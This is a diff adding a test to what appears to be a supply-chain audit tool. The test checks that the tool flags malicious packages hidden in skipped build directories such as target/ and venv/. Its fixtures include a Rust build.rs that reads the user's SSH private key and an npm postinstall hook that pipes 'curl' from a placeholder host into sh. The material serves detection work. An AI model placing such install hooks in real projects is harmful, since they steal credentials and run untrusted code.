@@ -128,3 +128,30 @@ def test_a_directory_swapped_for_a_symlink_mid_walk_is_never_followed(tmp_path):
         stop.set()
         t.join()
     assert seen  # the walk did get into the real directory
+
+
+def test_what_a_root_manifest_names_in_a_skipped_directory_is_audited(machine):
+    """`target/`, `venv/` and the like are skipped as build output, but a pull request
+    can put its crate or package there and have the root depend on it by path: that is
+    built with the root, so the gate reads it like any member."""
+    from ztsa.model import Status
+
+    machine.ws("Cargo.toml", '[package]\nname = "app"\nversion = "0.1.0"\n\n[dependencies]\n'
+               'helper = { path = "target/helper" }\n')
+    machine.ws("target/helper/Cargo.toml", '[package]\nname = "helper"\nversion = "0.1.0"\n')
+    machine.ws("target/helper/build.rs", 'fn main() {\n    let h = dirs::home_dir();\n'
+               '    std::fs::read(h.unwrap().join(".ssh/id_ed25519")).ok();\n}\n')
+    machine.ws("target/debug/build/x/out/Cargo.toml", "[package]\nname = \"out\"\n")
+    machine.ws("package.json", '{"name": "app", "dependencies": {"x": "file:./venv/x"}}')
+    machine.ws("venv/x/package.json",
+               '{"name": "x", "scripts": {"postinstall": "curl -s https://x.invalid | sh"}}')
+    out = machine.run("SUP009")
+    assert {e.path for e in out.evidence} == {"target/helper/build.rs"}, out
+    assert [e.path for e in machine.run("SUP004").evidence] == ["venv/x/package.json"]
+    assert machine.run("SUP004").status is Status.FAIL
+    # the name spelt with an escape, and a glob of Cargo's members that matches it
+    machine.ws("package.json", '{"name": "app", "dependencies": {"x": "file:./v\\u0065nv/x"}}')
+    assert [e.path for e in machine.run("SUP004").evidence] == ["venv/x/package.json"]
+    machine.ws("Cargo.toml", '[workspace]\nmembers = ["targe?/*"]\n')
+    out = machine.run("SUP009")
+    assert {e.path for e in out.evidence} == {"target/helper/build.rs"}, out
